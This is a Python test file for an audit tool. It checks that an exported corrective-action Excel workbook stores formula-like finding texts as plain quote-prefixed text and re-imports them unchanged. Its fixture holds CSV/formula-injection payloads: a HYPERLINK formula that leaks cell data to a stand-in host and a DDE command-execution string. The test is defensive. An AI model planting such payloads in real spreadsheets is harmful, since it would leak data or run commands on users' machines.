"""The CAP workbook never holds a formula (issue 15, point 8): a finding text starting with
`=`, `+`, `-` or `@` is written as text (Excel's quote prefix), reads back unchanged, and an
untouched workbook imports cleanly."""
from __future__ import annotations

from openpyxl import load_workbook

from sva.reports import export_cap, import_cap
from sva.reports.cap_workbook import COLUMN_OF, FIRST_ROW, MAIN_SHEET
from tests.conftest import PNG_1x1, answer_all

HOSTILE = {
    "observed": '=HYPERLINK("http://evil.example/?leak="&A1,"click for details")',
    "requirement": "+1+cmd|' /C calc'!A0",
    "required_action": "@SUM(1,1)",
}


def test_formula_like_texts_stay_text_and_round_trip(ws, audit, tmp_path):
    answer_all(ws, audit)
    ws.findings.add(audit, area="ISEC", severity="minor", **HOSTILE)
    ws.findings.add(audit, area="HR", severity="minor", requirement="Working hours",
                    observed="-5 hours of overtime not recorded")
    ws.audits.complete(audit)
    ws.audits.sign(audit, signer_name="Haruka Sato", role="Auditor", organisation="Buyer",
                   image_png=PNG_1x1)
    path = tmp_path / "cap.xlsx"
    export_cap(ws, audit, path)

    sheet = load_workbook(path)[MAIN_SHEET]
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    rows = {sheet.cell(r, COLUMN_OF["observed"]).value: r for r in (FIRST_ROW, FIRST_ROW + 1)}
    hostile = sheet.cell(rows[HOSTILE["observed"]], COLUMN_OF["observed"])
    assert hostile.data_type == "s" and hostile.quotePrefix     # shown and kept as text
    assert "-5 hours of overtime not recorded" in rows

    result = import_cap(ws, path)                     # untouched: nothing to complain about
    assert result.updated == [] and result.submitted == []
    book = load_workbook(path)
    comment = book[MAIN_SHEET].cell(rows[HOSTILE["observed"]], COLUMN_OF["supplier_comment"])
    comment.value = "=2+2 is our answer"
    comment.data_type = "s"                     # typed with a leading ' in Excel
    book.save(path)
    assert len(import_cap(ws, path).updated) == 1
    (first,) = [f for f in ws.findings.of_audit(audit) if f["observed"] == HOSTILE["observed"]]
    assert first["supplier_comment"] == "=2+2 is our answer"
